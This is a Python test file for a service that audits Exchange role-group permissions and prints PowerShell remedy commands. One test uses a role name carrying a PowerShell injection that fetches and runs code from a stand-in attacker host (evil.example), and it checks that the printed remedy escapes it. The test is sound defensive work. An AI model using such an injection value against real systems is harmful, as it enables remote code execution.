"""A role group of Exchange's own is enough: what it lacks, has too much of, and how it is made."""

import pytest

from handlers.api import readiness
from simulator.faults import Fault

ENOUGH = {"View-Only Configuration", "Remote and Accepted Domains", "Transport Rules", "Transport Hygiene"}


def ours(tenant):
    """The object id of the application's service principal there."""
    return str(tenant.starting_guid("service principal"))


async def look(service, tenant):
    found = await readiness.look(tenant.tenant_id, service.clients)
    return found, {item.id: item for item in found.items}


@pytest.fixture
async def tenant(service):
    tenant = service.world.add_tenant("contoso.example")
    await service.look_after(tenant)
    return tenant


def in_a_role_group(tenant, *roles):
    tenant.access.directory_roles = {"Security Administrator"}
    tenant.exchange_roles = set(roles)
    tenant.expire_tokens()


async def test_a_role_group_with_the_catalogues_roles_is_enough_and_the_service_works_with_it(service, tenant):
    in_a_role_group(tenant, *ENOUGH)
    found, items = await look(service, tenant)
    assert found.ready, [item for item in found.items if item.needed and item.state not in {"ok", "not_applicable"}]
    assert items["role-group-exchange"].state == "ok"
    assert items["directory-role-exchange"].state == "not_applicable"
    assert "the role 'Transport Rules'" in items["cmdlet Set-TransportRule"].detail
    tenant.admin("Set-InboundConnector", Identity="ExchangeDefender", Enabled=False)
    tenant.admin(
        "Disable-TransportRule", Identity="Send Automatic Replies to connector Automatic Replies", Confirm=False
    )
    await service.sweep()
    assert set((await service.states(tenant)).values()) <= {"compliant", "not_applicable"}


@pytest.mark.parametrize("lost", sorted(ENOUGH - {"View-Only Configuration"}))
async def test_a_role_that_its_role_group_lacks_is_named_with_the_command_that_gives_it(service, tenant, lost):
    in_a_role_group(tenant, *(ENOUGH - {lost}))
    found, items = await look(service, tenant)
    assert not found.ready
    assert (items["role-group-exchange"].state, items["role-group-exchange"].detail) == ("missing", f"without {lost}")
    assert f"New-ManagementRoleAssignment -App {ours(tenant)} -Role '{lost}'" in items["role-group-exchange"].remedy


async def test_without_any_role_the_commands_make_the_whole_group(service, tenant):
    in_a_role_group(tenant)
    _, items = await look(service, tenant)
    remedy = items["role-group-exchange"].remedy
    assert f"New-ServicePrincipal -AppId {service.world.client_id} -ObjectId {ours(tenant)}" in remedy
    assert "New-RoleGroup -Name Holdfast -Roles " in remedy
    assert all(f"'{role}'" in remedy for role in ENOUGH)


async def test_what_is_more_than_needed_is_said_with_what_takes_it_away(service, tenant):
    found, items = await look(service, tenant)
    assert found.ready
    assert items["role-group-exchange"].state == "too_much"
    assert "Exchange Administrator is more than is needed" in items["role-group-exchange"].detail
    in_a_role_group(tenant, *ENOUGH, "Role Management")
    found, items = await look(service, tenant)
    assert found.ready
    assert items["role-group-exchange"].detail == "nothing of ours needs 'Role Management'"
    assert "-Role 'Role Management' | Remove-ManagementRoleAssignment" in items["role-group-exchange"].remedy


async def test_a_role_that_a_customer_named_is_no_command_in_what_we_print(service, tenant):
    in_a_role_group(tenant, *ENOUGH, "x'; iex (irm evil.example) #")
    _, items = await look(service, tenant)
    assert "-Role 'x''; iex (irm evil.example) #' | Remove-" in items["role-group-exchange"].remedy


async def test_what_a_tenant_does_not_tell_of_its_roles_is_said_to_be_unknown(service, tenant):
    in_a_role_group(tenant, *ENOUGH)
    for cmdlet in ("Get-ManagementRole", "Get-ManagementRoleAssignment"):
        tenant.faults.script(Fault("nul_403", cmdlet=cmdlet, times=99))
    _, items = await look(service, tenant)
    for name in ("role-group-exchange", "directory-role-exchange", "cmdlet Set-TransportRule"):
        assert items[name].state == "unknown"
        assert "the first write" in items[name].detail
    assert items["cmdlet Get-TransportRule"].state == "ok"
